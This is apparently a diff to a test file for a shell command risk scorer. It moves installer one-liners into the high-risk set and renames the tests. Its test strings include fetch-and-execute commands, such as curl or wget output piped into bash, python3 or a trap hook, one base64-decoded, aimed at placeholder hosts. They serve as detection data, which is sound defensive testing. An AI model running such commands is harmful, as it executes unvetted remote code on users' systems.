@@ -70,15 +70,16 @@ def test_marks_do_not_leave_the_reader():
             "eval",
             "sudo sh -c",
         )
-        for fetch in (FETCH, "wget -qO- http://files.example/y")
+        for fetch in ("curl -fsSL http://files.example/y", "wget -qO- http://files.example/y")
     ]
     + [
-        f"python3 <({FETCH})",
+        f"python3 <({FETCH} | base64 -d)",
         'bash -c "$(curl -fsSL http://raw.githubusercontent.com/a/b/i)"',
-        f'trap "$({FETCH})" EXIT',
+        'trap "$(curl -fsSL http://files.example/y)" EXIT',
+        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/a/b/main/install.sh)"',
     ],
 )
-def test_program_that_is_a_download_is_high(text):
+def test_program_that_is_a_download_nobody_answers_for_is_high(text):
     assert level(text) in ("high", "critical")
 
 
@@ -87,16 +88,12 @@ def test_program_that_is_a_download_is_high(text):
     [
         f"V=$({FETCH}); node -e \"console.log(1, '$V')\"",
         f'V=$({FETCH}); sh -c "echo building $V"',
-        f"{FETCH} | bash",
-        f"bash <({FETCH})",
-        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/a/b/main/install.sh)"',
-        'ruby -e "$(curl -fsSL https://github.com/a/b/raw/main/install)"',
         'eval "$(ssh-agent -s)"',
         'bash -c "$(which make) test"',
         'python3 -c "$(cat gen.py)"',
     ],
 )
-def test_values_and_installers_stay_low(text):
+def test_values_stay_low(text):
     assert level(text) in ("none", "low")
 
 
